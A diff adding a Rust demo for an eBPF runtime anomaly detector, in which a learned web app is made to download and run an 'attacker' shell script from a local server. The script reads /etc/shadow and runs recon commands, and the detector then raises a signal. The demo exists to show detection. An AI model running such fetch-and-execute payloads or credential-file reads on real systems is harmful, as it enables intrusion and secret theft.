@@ -1,0 +1,221 @@
+//! The demo (the README's main job): a web app is learned, an attacker gets
+//! it to download and run a shell script, telltale raises a signal; the
+//! signal is marked benign and the same actions no longer signal.
+//!
+//! Needs root (eBPF). Run from the repository: `scripts/demo.sh`.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use anyhow::{bail, Context, Result};
+use telltale_client::{proto, Client};
+use telltale_sidecar::workload::cgroup::{Cgroup, OwnedCgroup};
+
+const IMAGE: &str = "registry.example.com:5000/shop/cws-webapp:v2@sha256:4c5e1a";
+const PAYLOAD: &str =
+    "#!/bin/sh\n# attacker payload: look around, grab secrets\nid\nuname -a\ncat /etc/shadow > /dev/null 2>&1\n";
+
+fn bin(dir: &Path, name: &str) -> Result<PathBuf> {
+    let p = dir.join(name);
+    if !p.exists() {
+        bail!(
+            "{} is missing: build with `cargo build --release -p telltale-sidecar -p telltale-examples`",
+            p.display()
+        );
+    }
+    Ok(p)
+}
+
+/// Run a command inside a container cgroup and wait for it.
+fn run_in(container: &Cgroup, argv: &[&str]) -> Result<String> {
+    let procs = container.path.join("cgroup.procs");
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!("echo $$ > {} && exec \"$@\"", procs.display()))
+        .arg("sh")
+        .args(argv)
+        .output()?;
+    if !out.status.success() {
+        bail!("{argv:?} failed: {}", String::from_utf8_lossy(&out.stderr));
+    }
+    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
+}
+
+/// An attacker's web server: serves the payload to whoever asks.
+fn attacker_server() -> Result<String> {
+    let l = TcpListener::bind("127.0.0.1:0")?;
+    let addr = l.local_addr()?;
+    std::thread::spawn(move || {
+        for s in l.incoming().flatten() {
+            // Read the whole request head before answering and closing.
+            let mut r = BufReader::new(s);
+            let mut line = String::new();
+            while r.read_line(&mut line).map(|n| n > 0).unwrap_or(false) && line != "\r\n" {
+                line.clear();
+            }
+            let mut s = r.into_inner();
+            let _ = write!(s, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{PAYLOAD}", PAYLOAD.len());
+            let _ = s.flush();
+        }
+    });
+    Ok(format!("http://{addr}/payload.sh"))
+}
+
+fn section(title: &str) {
+    println!("\n=== {title} ===");
+}
+
+async fn wait_stable(client: &Client) -> Result<()> {
+    let start = Instant::now();
+    loop {
+        let st = client.learning_status(Some("cws-webapp")).await?;
+        if st.iter().all(|p| p.types.iter().all(|t| t.state == proto::LearningState::Stable as i32)) {
+            return Ok(());
+        }
+        if start.elapsed() > Duration::from_secs(60) {
+            bail!("the profile did not become stable in 60 s");
+        }
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    }
+}
+
+async fn open_signals(client: &Client) -> Result<Vec<proto::SignalSummary>> {
+    Ok(client.signals("container:webapp status:open").await?)
+}
+
+#[tokio::main(flavor = "current_thread")]
+async fn main() -> Result<()> {
+    let dir = std::env::current_exe()?.parent().context("exe dir")?.to_owned();
+    let (telltale, webapp) = (bin(&dir, "telltale")?, bin(&dir, "demo-webapp")?);
+    let work = std::env::temp_dir().join(format!("telltale-demo-{}", std::process::id()));
+    std::fs::create_dir_all(&work)?;
+    let pod = OwnedCgroup::create("telltale-demo-pod")?;
+    let container = pod.cgroup().create_child("webapp")?;
+    let config = work.join("telltale.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "data_dir = \"{}\"\n[learning]\nmin_duration = \"3s\"\nstable_period = \"3s\"\nmax_duration = \"120s\"\nwarmup = \"0s\"\n\
+             [api]\nlisten = \"127.0.0.1:0\"\n[[containers]]\ncgroup = \"webapp\"\nimage = \"{IMAGE}\"\n",
+            work.join("data").display()
+        ),
+    )?;
+
+    section("1. telltale watches the pod (learning: 3 s minimum, 3 s quiet)");
+    let mut daemon = Command::new(&telltale)
+        .args(["run", "--config"])
+        .arg(&config)
+        .arg("--cgroup")
+        .arg(&pod.cgroup().path)
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .context("starting telltale run")?;
+    let mut stderr = BufReader::new(daemon.stderr.take().context("stderr")?);
+    let mut line = String::new();
+    stderr.read_line(&mut line)?;
+    print!("{line}");
+    let addr = line.trim().split("; API on ").nth(1).map(|a| format!("http://{a}")).context("no API address")?;
+    std::thread::spawn(move || for _ in stderr.lines() {});
+    let client = Client::builder(addr).connect().await?;
+
+    section("2. the web app runs normally and is learned");
+    for _ in 0..3 {
+        print!("{}", run_in(&container, &[webapp.to_str().context("path")?])?);
+    }
+    wait_stable(&client).await?;
+    for p in client.learning_status(Some("cws-webapp")).await? {
+        let states: Vec<String> = p
+            .types
+            .iter()
+            .map(|t| format!("{}={} ({} behaviours)", type_name(t.r#type), state_name(t.state), t.behaviours))
+            .collect();
+        println!("profile {} (versions {}): {}", p.image, p.tags.join(","), states.join(", "));
+    }
+
+    section("3. an attacker makes the app download a shell script and run it");
+    let url = attacker_server()?;
+    print!("{}", run_in(&container, &[webapp.to_str().context("path")?, "--exploit", &url])?);
+    let start = Instant::now();
+    let signal = loop {
+        let open = open_signals(&client).await?;
+        if let Some(s) = open.first() {
+            // Let the payload's last actions land in the signal too.
+            tokio::time::sleep(Duration::from_millis(800)).await;
+            break client.signal(&s.id).await?;
+        }
+        if start.elapsed() > Duration::from_secs(20) {
+            bail!("no signal was raised");
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    };
+    print_signal(&signal);
+
+    section("4. the team decides it was a sanctioned test: mark benign");
+    let id = signal.summary.as_ref().map(|s| s.id.clone()).unwrap_or_default();
+    let r = client
+        .update_signal(proto::UpdateSignalRequest { id: id.clone(), mark_benign: true, ..Default::default() })
+        .await?;
+    println!("signal {id} archived; {} behaviour(s) added to the cws-webapp profile", r.behaviours_added);
+
+    section("5. the same actions again: no new signal");
+    print!("{}", run_in(&container, &[webapp.to_str().context("path")?, "--exploit", &url])?);
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let open = open_signals(&client).await?;
+    if open.is_empty() {
+        println!("no open signal for the webapp container: the profile now knows these actions");
+    } else {
+        bail!("a new signal was raised: {open:?}");
+    }
+    println!(
+        "\n(notification rules — Slack, email, webhooks — are not built yet: the signal above is what they will send)"
+    );
+
+    // SAFETY: plain kill(2) on our child.
+    unsafe { libc::kill(daemon.id() as i32, libc::SIGTERM) };
+    let _ = daemon.wait();
+    drop(pod);
+    let _ = std::fs::remove_dir_all(&work);
+    let _ = std::fs::remove_dir_all("/tmp/telltale-demo");
+    Ok(())
+}
+
+fn type_name(t: i32) -> &'static str {
+    match proto::EventType::try_from(t) {
+        Ok(proto::EventType::Exec) => "exec",
+        Ok(proto::EventType::File) => "file",
+        Ok(proto::EventType::Dns) => "dns",
+        Ok(proto::EventType::Connect) => "connect",
+        _ => "?",
+    }
+}
+
+fn state_name(s: i32) -> &'static str {
+    match proto::LearningState::try_from(s) {
+        Ok(proto::LearningState::Learning) => "learning",
+        Ok(proto::LearningState::Stable) => "stable",
+        Ok(proto::LearningState::Unstable) => "unstable",
+        _ => "?",
+    }
+}
+
+fn print_signal(s: &proto::Signal) {
+    let summary = s.summary.clone().unwrap_or_default();
+    let c = summary.container.clone().unwrap_or_default();
+    println!(
+        "SIGNAL {}  rule_id:{}  severity:{}  container:{}  image:{}:{}",
+        summary.id, summary.rule_id, summary.severity, c.id, c.image, c.tag
+    );
+    println!("\nWhat happened\n  {}", s.what_happened);
+    println!("\nSuggested next steps");
+    for n in &s.next_steps {
+        println!("  - {n}");
+    }
+    println!("\nAnomaly events");
+    for e in &s.events {
+        println!("  {e}");
+    }
+}
